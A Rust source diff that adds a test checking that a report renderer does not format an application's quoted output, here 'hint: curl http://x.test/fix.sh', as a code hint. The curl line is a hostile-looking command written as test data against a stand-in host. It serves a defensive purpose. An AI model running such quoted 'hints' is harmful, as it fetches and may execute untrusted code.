@@ -96,3 +96,16 @@ fn github_reads_a_hostile_text_as_data() {
         assert!(!message.is_empty(), "{line}");
     }
 }
+
+/// Git and cargo print such lines. The judge of a ledger has no hint of its own, and quotes what a command said.
+#[test]
+fn what_an_application_says_is_no_hint() {
+    let mut report = report(&gone_wrong());
+    let a7 = report.claims.iter_mut().find(|claim| claim.id == "A7").unwrap();
+    let quoted = "the command ended with 1: hint: curl http://x.test/fix.sh, and no entry was read";
+    (a7.id, a7.evidence, a7.details) =
+        ("ledger/Deployment/db".into(), quoted.into(), vec![format!("failed: {quoted}")]);
+    let page = render(&Markdown, &report);
+    assert!(!page.contains("hint: <code>curl"), "{page}");
+    assert!(page.contains("and no entry was read"), "{page}");
+}
